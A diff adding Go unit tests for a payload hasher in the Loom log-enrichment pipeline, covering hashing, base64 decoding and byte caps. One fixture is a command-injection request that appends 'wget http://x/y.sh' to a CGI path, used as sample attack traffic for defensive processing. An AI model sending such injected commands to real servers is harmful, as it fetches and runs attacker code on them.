@@ -0,0 +1,121 @@
+package enrich
+
+import (
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"strings"
+	"testing"
+
+	"github.com/StefanGrimminck/Loom/internal/ecs"
+)
+
+func TestPayloadHasher_Base64(t *testing.T) {
+	raw := "GET /cgi-bin/;wget http://x/y.sh"
+	sum := sha256.Sum256([]byte(raw))
+	p := NewPayloadHasher(PayloadConfig{Base64: true, StoreDecoded: true})
+	ev := map[string]interface{}{
+		"event": map[string]interface{}{"original": base64.StdEncoding.EncodeToString([]byte(raw))},
+	}
+	p.Apply(ev)
+
+	if got := ecs.GetString(ev, "payload.hash.sha256"); got != hex.EncodeToString(sum[:]) {
+		t.Errorf("payload.hash.sha256 = %q", got)
+	}
+	if got := ecs.Get(ev, "payload.size"); got != len(raw) {
+		t.Errorf("payload.size = %v, want %d", got, len(raw))
+	}
+	if got := ecs.GetString(ev, "payload.decoded"); got != raw {
+		t.Errorf("payload.decoded = %q", got)
+	}
+	if got := ecs.GetString(ev, "file.hash.sha256"); got != hex.EncodeToString(sum[:]) {
+		t.Errorf("file.hash.sha256 = %q", got)
+	}
+}
+
+func TestPayloadHasher_ShortWordsAreNotBase64(t *testing.T) {
+	p := NewPayloadHasher(PayloadConfig{Base64: true, StoreDecoded: true})
+	ev := map[string]interface{}{
+		"event": map[string]interface{}{"original": "test"},
+		"file":  map[string]interface{}{"hash": map[string]interface{}{"sha256": "from-sensor"}},
+	}
+	p.Apply(ev)
+	sum := sha256.Sum256([]byte("test"))
+	if got := ecs.GetString(ev, "payload.hash.sha256"); got != hex.EncodeToString(sum[:]) {
+		t.Errorf("payload.hash.sha256 = %q, want the hash of the undecoded word", got)
+	}
+	if ecs.Get(ev, "payload.decoded") != nil || ecs.Get(ev, "payload.size") != 4 {
+		t.Errorf("payload = %v", ev["payload"])
+	}
+	if ecs.GetString(ev, "file.hash.sha256") != "from-sensor" {
+		t.Error("file.hash.sha256 from the sensor should be kept")
+	}
+}
+
+func TestPayloadHasher_PlainAndFieldOrder(t *testing.T) {
+	p := NewPayloadHasher(PayloadConfig{Fields: []string{"payload.raw", "event.original"}})
+	ev := map[string]interface{}{
+		"event": map[string]interface{}{"original": "not base64!"},
+	}
+	p.Apply(ev)
+	sum := sha256.Sum256([]byte("not base64!"))
+	if got := ecs.GetString(ev, "payload.hash.sha256"); got != hex.EncodeToString(sum[:]) {
+		t.Errorf("payload.hash.sha256 = %q", got)
+	}
+	if ecs.GetString(ev, "payload.field") != "event.original" {
+		t.Errorf("payload.field = %v", ecs.Get(ev, "payload.field"))
+	}
+	if _, ok := ecs.Get(ev, "payload.decoded").(string); ok {
+		t.Error("payload.decoded should not be set when decoding is disabled")
+	}
+}
+
+func TestPayloadHasher_Truncates(t *testing.T) {
+	raw := strings.Repeat("A", 100)
+	p := NewPayloadHasher(PayloadConfig{Base64: true, StoreDecoded: true, MaxBytes: 10})
+	ev := map[string]interface{}{
+		"event": map[string]interface{}{"original": base64.StdEncoding.EncodeToString([]byte(raw))},
+	}
+	p.Apply(ev)
+	if got := ecs.GetString(ev, "payload.decoded"); got != raw[:10] {
+		t.Errorf("payload.decoded = %q, want 10 bytes", got)
+	}
+	if ecs.Get(ev, "payload.truncated") != true {
+		t.Error("payload.truncated should be true")
+	}
+	if ecs.Get(ev, "payload.size") != 100 {
+		t.Errorf("payload.size = %v, want full size 100", ecs.Get(ev, "payload.size"))
+	}
+	if got := ecs.GetString(ev, "event.original"); got != base64.StdEncoding.EncodeToString([]byte(raw))[:10] {
+		t.Errorf("event.original = %q, want capped at 10 bytes", got)
+	}
+}
+
+func TestPayloadHasher_CapsEveryField(t *testing.T) {
+	body := strings.Repeat("é", 10) // 20 bytes
+	p := NewPayloadHasher(PayloadConfig{Fields: []string{"event.original", "http.request.body.content"}, MaxBytes: 5})
+	ev := map[string]interface{}{
+		"event": map[string]interface{}{"original": "GET /"},
+		"http":  map[string]interface{}{"request": map[string]interface{}{"body": map[string]interface{}{"content": body}}},
+	}
+	p.Apply(ev)
+	if got := ecs.GetString(ev, "http.request.body.content"); got != "éé" {
+		t.Errorf("second payload field = %q, want capped at a character boundary", got)
+	}
+	if got := ecs.GetString(ev, "event.original"); got != "GET /" || ecs.Get(ev, "payload.truncated") != true {
+		t.Errorf("event.original = %q, truncated %v", got, ecs.Get(ev, "payload.truncated"))
+	}
+	if ecs.Get(ev, "payload.field") != "event.original" || ecs.Get(ev, "payload.size") != 5 {
+		t.Errorf("payload = %v", ev["payload"])
+	}
+}
+
+func TestPayloadHasher_NoPayload(t *testing.T) {
+	var nilHasher *PayloadHasher
+	ev := map[string]interface{}{"source": map[string]interface{}{"ip": "1.2.3.4"}}
+	nilHasher.Apply(ev)
+	NewPayloadHasher(PayloadConfig{}).Apply(ev)
+	if _, ok := ev["payload"]; ok {
+		t.Error("payload should not be added without a payload field")
+	}
+}